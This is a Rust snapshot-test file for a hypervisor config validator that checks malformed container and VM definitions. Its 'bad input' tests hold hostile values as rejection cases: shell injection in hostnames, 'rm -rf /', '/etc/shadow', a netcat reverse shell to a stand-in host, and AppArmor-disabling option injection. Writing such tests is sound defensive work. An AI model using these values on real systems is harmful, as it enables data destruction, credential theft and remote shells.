//! Broken configs: each case is the small valid site of [`Case::valid`] with one mistake, and
//! the snapshot is exactly what an operator reads (the error, then every error finding).
//! The warning cases at the end still validate.

use insta::assert_snapshot;
use phx_core::config::{HYPERVISOR_FILE, LXC_FILE, VM_FILE};
use serde_json::json;

use crate::support::{Case, remove, set};

#[test]
fn base_site_is_valid_without_findings() {
    let checked = Case::valid().check();
    assert_eq!(checked.findings(), "(no findings)");
    let inv = checked.inventory();
    assert_eq!((inv.lxc.len(), inv.vms.len()), (3, 2));
}

// Files and shapes

#[test]
fn json_syntax_error_names_line_and_column() {
    let text = "{\n  \"lxc_configs\": {\n    \"102\": {\"name\": \"traefik\",}\n  }\n}\n";
    assert_snapshot!(Case::valid().text(LXC_FILE, text).rejection());
}

#[test]
fn empty_file_is_rejected() {
    assert_snapshot!(Case::valid().text(LXC_FILE, "  \n").rejection());
}

#[test]
fn array_is_not_an_lxc_file() {
    assert_snapshot!(Case::valid().text(LXC_FILE, "[]").rejection());
}

#[test]
fn object_without_lxc_configs_is_not_an_lxc_file() {
    assert_snapshot!(
        Case::valid()
            .text(LXC_FILE, r#"{"containers": {}}"#)
            .rejection()
    );
}

#[test]
fn hypervisor_file_must_be_an_object() {
    assert_snapshot!(
        Case::valid()
            .text(HYPERVISOR_FILE, r#"["vmbr0"]"#)
            .rejection()
    );
}

#[test]
fn vm_file_without_vms_is_rejected() {
    assert_snapshot!(
        Case::valid()
            .text(VM_FILE, r#"{"machines": []}"#)
            .rejection()
    );
}

#[test]
fn missing_lxc_file_names_its_path() {
    let text = Case::valid().without(LXC_FILE).rejection();
    assert!(
        text.contains("[TMP]/etc/phoenix_lxc_configs.json"),
        "{text}"
    );
    assert_snapshot!(text);
}

#[test]
fn missing_hypervisor_file_names_its_path() {
    let text = Case::valid().without(HYPERVISOR_FILE).rejection();
    assert!(
        text.contains("[TMP]/etc/phoenix_hypervisor_config.json"),
        "{text}"
    );
    assert_snapshot!(text);
}

// Types

#[test]
fn non_numeric_memory_string_is_a_type_error() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/102/memory_mb", json!("lots")));
    assert_snapshot!(case.rejection());
}

#[test]
fn object_where_an_array_is_expected_is_a_type_error() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/features", json!({"base_setup": true})));
    assert_snapshot!(case.rejection());
}

#[test]
fn number_for_name_is_a_type_error() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/name", json!(42)));
    assert_snapshot!(case.rejection());
}

// Values

#[test]
fn ip_without_prefix_is_not_a_cidr() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/network_config/ip", json!("10.0.0.12")));
    let text = case.rejection();
    assert_eq!(
        text.lines().next().unwrap(),
        r#"phoenix_lxc_configs.json: lxc_configs."102".network_config.ip: "10.0.0.12" is not a CIDR (expected a.b.c.d/nn)"#
    );
    assert_snapshot!(text);
}

#[test]
fn short_mac_address_is_rejected() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/mac_address", json!("52:54:00:AA:BB")));
    assert_snapshot!(case.rejection());
}

#[test]
fn multicast_mac_address_is_rejected() {
    let case = Case::valid().lxc(|v| {
        set(
            v,
            "/lxc_configs/102/mac_address",
            json!("01:00:5E:00:00:FB"),
        )
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn gateway_that_is_not_an_ip_is_rejected() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/network_config/gw", json!("10.0.0.300")));
    assert_snapshot!(case.rejection());
}

#[test]
fn hostname_with_underscore_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/102/name", json!("Traefik_Internal")));
    assert_snapshot!(case.rejection());
}

#[test]
fn container_keys_must_be_guest_ids() {
    let case = Case::valid().lxc(|v| {
        let base = v["lxc_configs"]["103"].clone();
        set(v, "/lxc_configs/abc", base.clone());
        set(v, "/lxc_configs/99", base);
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn zero_memory_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/102/memory_mb", json!(0)));
    assert_snapshot!(case.rejection());
}

#[test]
fn negative_cores_are_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/102/cores", json!(-2)));
    assert_snapshot!(case.rejection());
}

#[test]
fn zero_storage_size_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/storage_size_gb", json!(0)));
    assert_snapshot!(case.rejection());
}

#[test]
fn negative_vm_memory_is_rejected() {
    let case = Case::valid().vm(|v| set(v, "/vms/1/memory_mb", json!(-4096)));
    assert_snapshot!(case.rejection());
}

// Enums

#[test]
fn unknown_firewall_rule_type_is_rejected() {
    let case = Case::valid().lxc(|v| {
        set(
            v,
            "/lxc_configs/102/firewall/rules/0/type",
            json!("inbound"),
        )
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn unknown_firewall_action_is_rejected() {
    let case = Case::valid().lxc(|v| {
        set(
            v,
            "/lxc_configs/102/firewall/rules/0/action",
            json!("ALLOW"),
        )
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn unknown_firewall_protocol_is_rejected() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/firewall/rules/0/proto", json!("tcpx")));
    assert_snapshot!(case.rejection());
}

#[test]
fn unknown_portainer_role_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/102/portainer_role", json!("boss")));
    assert_snapshot!(case.rejection());
}

#[test]
fn host_firewall_rule_with_unknown_action_is_rejected() {
    let rule = json!({"type": "in", "action": "PERMIT", "proto": "tcp", "port": "443"});
    let case = Case::valid().hypervisor(|v| {
        set(
            v,
            "/shared_volumes",
            json!({"firewall": {"enabled": true, "global_firewall_rules": [rule]}}),
        );
    });
    assert_snapshot!(case.rejection());
}

// Required keys

#[test]
fn missing_name_is_rejected() {
    let case = Case::valid().lxc(|v| remove(v, "/lxc_configs/103/name"));
    assert_snapshot!(case.rejection());
}

#[test]
fn container_without_template_or_clone_source_is_rejected() {
    let case = Case::valid().lxc(|v| remove(v, "/lxc_configs/900/template"));
    assert_snapshot!(case.rejection());
}

#[test]
fn vm_static_ip_without_gateway_is_rejected() {
    let case = Case::valid().vm(|v| remove(v, "/vms/1/network_config/gw"));
    assert_snapshot!(case.rejection());
}

#[test]
fn vm_without_cores_or_a_default_is_rejected() {
    let case = Case::valid().vm(|v| remove(v, "/vm_defaults/cores"));
    assert_snapshot!(case.rejection());
}

#[test]
fn vm_id_below_100_is_rejected() {
    let case = Case::valid().vm(|v| set(v, "/vms/1/vmid", json!(42)));
    assert_snapshot!(case.rejection());
}

// References across guests

#[test]
fn container_defined_twice_is_rejected() {
    // serde_json keeps both keys; both mean container 103.
    let case = Case::valid().lxc(|v| {
        let mut ct = v["lxc_configs"]["103"].clone();
        set(&mut ct, "/network_config/ip", json!("10.0.0.50/24"));
        set(&mut ct, "/mac_address", json!("52:54:00:AA:BB:50"));
        set(v, "/lxc_configs/ 103", ct);
    });
    assert_snapshot!(case.rejection());
}

/// One template container, `{extra}` spliced into its definition, the whole definition given
/// `times` times under the same key.
fn single_container(extra: &str, times: usize) -> String {
    let ct = format!(
        r#""900": {{"name": "base", "template": "local:vztmpl/ubuntu.tar.zst", "cores": 1, "storage_pool": "local-lvm", "storage_size_gb": 8, "unprivileged": true, {extra}}}"#
    );
    format!(r#"{{"lxc_configs": {{{}}}}}"#, vec![ct; times].join(", "))
}

#[test]
fn container_key_given_twice_is_rejected() {
    let text = single_container(r#""memory_mb": 512"#, 2);
    let case = Case::valid().without(VM_FILE).text(LXC_FILE, &text);
    assert_snapshot!(case.rejection());
}

#[test]
fn vm_defined_twice_is_rejected() {
    let case = Case::valid().vm(|v| {
        let vms = v["vms"].as_array_mut().unwrap();
        let mut again = vms[1].clone();
        set(&mut again, "/network_config/ip", json!("10.0.0.112/24"));
        vms.push(again);
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn invalid_guest_is_not_also_reported_as_undefined() {
    // 102 is broken; 1001 depends on it and must not get a second, misleading error.
    let text = Case::valid()
        .lxc(|v| set(v, "/lxc_configs/102/cores", json!("two")))
        .rejection();
    assert!(!text.contains("undefined-reference"), "{text}");
    assert_snapshot!(text);
}

#[test]
fn container_cloning_itself_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/clone_from_ctid", json!("103")));
    assert_snapshot!(case.rejection());
}

#[test]
fn id_defined_as_container_and_vm_is_rejected() {
    let case = Case::valid().lxc(|v| {
        let mut ct = v["lxc_configs"]["103"].clone();
        set(&mut ct, "/network_config/ip", json!("10.0.0.50/24"));
        set(&mut ct, "/mac_address", json!("52:54:00:AA:BB:50"));
        set(v, "/lxc_configs/1001", ct);
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn clone_from_undefined_container_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/clone_from_ctid", json!("905")));
    assert_snapshot!(case.rejection());
}

#[test]
fn dependency_on_undefined_guest_is_rejected() {
    let case = Case::valid().vm(|v| set(v, "/vms/1/dependencies", json!(["102", "4242"])));
    assert_snapshot!(case.rejection());
}

#[test]
fn cycle_is_reported_with_every_member() {
    // 102 -> 103 (dependency), 103 -> 1001 (dependency), 1001 -> 102 (dependency).
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/dependencies", json!(["1001"])));
    let text = case.rejection();
    assert!(
        text.contains("dependency cycle: 102 -> 103 -> 1001 -> 102"),
        "{text}"
    );
    assert_snapshot!(text);
}

#[test]
fn clone_source_without_template_snapshot_is_rejected() {
    let case = Case::valid().lxc(|v| remove(v, "/lxc_configs/900/template_snapshot_name"));
    assert_snapshot!(case.rejection());
}

#[test]
fn container_cloned_from_a_vm_is_rejected() {
    let case = Case::valid().lxc(|v| set(v, "/lxc_configs/103/clone_from_ctid", json!("9000")));
    assert_snapshot!(case.rejection());
}

// Network conflicts

#[test]
fn duplicate_ip_across_guests_is_rejected() {
    let case = Case::valid().vm(|v| set(v, "/vms/1/network_config/ip", json!("10.0.0.12/24")));
    assert_snapshot!(case.rejection());
}

#[test]
fn duplicate_mac_is_rejected() {
    let case = Case::valid().lxc(|v| {
        set(
            v,
            "/lxc_configs/103/mac_address",
            json!("52:54:00:aa:bb:cb"),
        )
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn container_gateway_outside_subnet_is_rejected() {
    let case =
        Case::valid().lxc(|v| set(v, "/lxc_configs/102/network_config/gw", json!("10.0.1.1")));
    assert_snapshot!(case.rejection());
}

#[test]
fn vm_gateway_outside_subnet_names_its_array_index() {
    // The VM is vms[1] in the file, although its id sorts first.
    let case = Case::valid().vm(|v| set(v, "/vms/1/network_config/gw", json!("192.168.1.1")));
    let text = case.rejection();
    assert!(text.contains("vms[1].network_config.gw"), "{text}");
    assert_snapshot!(text);
}

// Bad input: what a broken editor, a copy from a web page or a hostile file puts in a config.
// Each case is still one mistake per field; the snapshot is every error an operator reads.

#[test]
fn deep_nesting_is_refused_before_the_stack_runs_out() {
    // 100 000 levels: serde_json stops at 128, long before this test thread's 2 MiB stack.
    let depth = 100_000;
    let text = format!(
        r#"{{"lxc_configs": {{"900": {}{}}}}}"#,
        "[".repeat(depth),
        "]".repeat(depth)
    );
    let case = Case::valid().without(VM_FILE).text(LXC_FILE, &text);
    assert_snapshot!(case.rejection());
}

#[test]
fn nesting_under_the_limit_is_kept_as_an_unknown_key() {
    let deep = format!("{}1{}", "[".repeat(100), "]".repeat(100));
    let text = single_container(&format!(r#""memory_mb": 512, "site_notes": {deep}"#), 1);
    let checked = Case::valid().without(VM_FILE).text(LXC_FILE, &text).check();
    let id = phx_core::types::GuestId::new(900).unwrap();
    let mut kept = &checked.inventory().lxc[&id].extra["site_notes"];
    let mut levels = 0;
    while let Some(inner) = kept.as_array().and_then(|a| a.first()) {
        kept = inner;
        levels += 1;
    }
    assert_eq!((levels, kept), (100, &json!(1)));
    assert_snapshot!(checked.findings());
}

#[test]
fn huge_numbers_are_rejected_not_cut() {
    let case = Case::valid()
        .lxc(|v| {
            set(
                v,
                "/lxc_configs/102/memory_mb",
                json!(1.8446744073709552e19),
            );
            set(v, "/lxc_configs/102/cores", json!(1_000_000));
            set(v, "/lxc_configs/102/boot_order", json!(u64::MAX));
            set(
                v,
                "/lxc_configs/103/storage_size_gb",
                json!(1_000_000_000_000_000u64),
            );
            set(
                v,
                "/lxc_configs/103/swap_mb",
                json!("99999999999999999999999"),
            );
        })
        .vm(|v| {
            set(v, "/vms/1/vmid", json!(4_294_967_296u64));
            set(v, "/vms/0/boot_delay", json!(4_294_967_296u64));
        });
    assert_snapshot!(case.rejection());
}

#[test]
fn number_beyond_a_double_is_a_syntax_error() {
    let text = single_container(r#""memory_mb": 1e400"#, 1);
    let case = Case::valid().without(VM_FILE).text(LXC_FILE, &text);
    assert_snapshot!(case.rejection());
}

#[test]
fn unicode_in_names_and_ids_is_rejected() {
    let case = Case::valid()
        .lxc(|v| {
            set(v, "/lxc_configs/102/name", json!("træfik"));
            set(v, "/lxc_configs/103/name", json!("step\u{202e}ac"));
            set(v, "/lxc_configs/900/features", json!(["d\u{43e}cker"]));
            let ct = v["lxc_configs"]["103"].clone();
            set(v, "/lxc_configs/\u{ff11}\u{ff10}\u{ff14}", ct);
        })
        .vm(|v| set(v, "/vms/1/name", json!("port\u{0}ainer")));
    assert_snapshot!(case.rejection());
}

#[test]
fn shell_metacharacters_in_hostnames_are_rejected() {
    let case = Case::valid()
        .lxc(|v| {
            set(v, "/lxc_configs/102/name", json!("traefik;reboot"));
            set(v, "/lxc_configs/103/name", json!("$(reboot)"));
        })
        .vm(|v| set(v, "/vms/1/name", json!("`id`")));
    assert_snapshot!(case.rejection());
}

#[test]
fn shell_metacharacters_and_paths_in_script_names_are_rejected() {
    let case = Case::valid().lxc(|v| {
        set(v, "/lxc_configs/900/features", json!(["base_setup;reboot"]));
        set(
            v,
            "/lxc_configs/102/application_script",
            json!("app.sh; rm -rf /"),
        );
        set(
            v,
            "/lxc_configs/103/application_script",
            json!("/etc/shadow"),
        );
        set(
            v,
            "/lxc_configs/103/tests",
            json!({"smoke": [{"name": "up", "type": "script", "path": "../../../bin/sh"}]}),
        );
        set(
            v,
            "/lxc_configs/102/health_checks",
            json!([{"name": "ping", "script": "check.sh|nc -e /bin/sh evil 4444"}]),
        );
    });
    assert_snapshot!(case.rejection());
}

#[test]
fn property_string_and_line_breaking_values_are_rejected() {
    let case = Case::valid()
        .lxc(|v| {
            set(
                v,
                "/lxc_configs/102/network_config/bridge",
                json!("vmbr0,firewall=0"),
            );
            set(
                v,
                "/lxc_configs/103/network_config/name",
                json!("eth0,ip=dhcp"),
            );
            set(
                v,
                "/lxc_configs/900/lxc_options",
                json!(["lxc.apparmor.profile: unconfined\n[pending]\nlock: backup"]),
            );
            set(
                v,
                "/lxc_configs/102/apparmor_profile",
                json!("unconfined\nlxc.cap.drop:"),
            );
        })
        .vm(|v| {
            set(v, "/vm_defaults/network_bridge", json!("vmbr0,tag=5"));
            set(v, "/vms/0/template_image", json!("noble.img,size=1T"));
        });
    assert_snapshot!(case.rejection());
}

#[test]
fn file_of_50_mb_is_refused_without_reading_it() {
    // Made here, never committed: the valid file followed by 50 MB of spaces.
    let base = Case::valid();
    let lxc = base.file(LXC_FILE);
    let text = format!("{lxc}{}", " ".repeat(50 * 1024 * 1024));
    let text = base.text(LXC_FILE, &text).rejection();
    assert!(text.contains("at most 16 MiB"), "{text}");
    assert_snapshot!(text);
}

#[test]
fn top_level_key_given_twice_keeps_the_last_and_says_so() {
    // jq and serde_json read the last "lxc_configs": the containers of the first are gone,
    // and what referred to them is reported, with the duplicate as the reason.
    let lxc = Case::valid().file(LXC_FILE);
    let end = lxc.rfind('}').unwrap();
    let text = format!(r#"{}, "lxc_configs": {{}}}}"#, &lxc[..end]);
    let checked = Case::valid().text(LXC_FILE, &text).check();
    assert!(!checked.validation.is_valid());
    assert_snapshot!(checked.findings());
}

#[test]
fn byte_order_mark_is_skipped_with_a_warning() {
    let lxc = Case::valid().file(LXC_FILE);
    let checked = Case::valid()
        .text(LXC_FILE, &format!("\u{feff}{lxc}"))
        .check();
    assert_eq!(checked.inventory().lxc.len(), 3);
    assert_snapshot!(checked.findings());
}

// Warnings: the config is still valid.

#[test]
fn gpu_without_nvidia_feature_is_a_warning() {
    let checked = Case::valid()
        .lxc(|v| set(v, "/lxc_configs/102/gpu_assignment", json!("0, 1")))
        .check();
    assert_eq!(
        checked
            .inventory()
            .lxc
            .values()
            .map(|c| c.gpu_assignment.len())
            .sum::<usize>(),
        2
    );
    assert_snapshot!(checked.findings());
}

#[test]
fn unknown_keys_are_kept_and_reported_as_warnings() {
    let checked = Case::valid()
        .lxc(|v| {
            set(v, "/lxc_configs/102/colour", json!("blue"));
            set(v, "/lxc_configs/102/network_config/mtu", json!(9000));
            set(v, "/site_owner", json!("ops"));
        })
        .vm(|v| set(v, "/vms/0/cpu_type", json!("host")))
        .check();
    let inv = checked.inventory();
    let id = phx_core::types::GuestId::new(102).unwrap();
    assert_eq!(inv.lxc[&id].extra["colour"], json!("blue"));
    assert_snapshot!(checked.findings());
}

#[test]
fn key_given_twice_is_a_warning_and_the_last_one_counts() {
    // serde_json and jq (the shell tool) both keep the last value without a word.
    let text = single_container(r#""memory_mb": 512, "memory_mb": 1024"#, 1);
    let checked = Case::valid().without(VM_FILE).text(LXC_FILE, &text).check();
    let id = phx_core::types::GuestId::new(900).unwrap();
    assert_eq!(checked.inventory().lxc[&id].memory_mb, 1024);
    assert_snapshot!(checked.findings());
}

#[test]
fn missing_scripts_are_warnings_when_the_scripts_dir_exists() {
    let checked = Case::valid()
        .lxc(|v| {
            set(v, "/lxc_configs/900/features", json!(["base_setup"]));
            set(
                v,
                "/lxc_configs/102/features",
                json!(["base_setup", "traefik"]),
            );
            set(
                v,
                "/lxc_configs/102/application_script",
                json!("phoenix_hypervisor_lxc_102.sh"),
            );
        })
        .vm(|v| set(v, "/vms/1/features", json!(["docker"])))
        .with_scripts(&["lxc_setup/phoenix_hypervisor_feature_install_base_setup.sh"])
        .check();
    checked.inventory();
    assert_snapshot!(checked.findings());
}
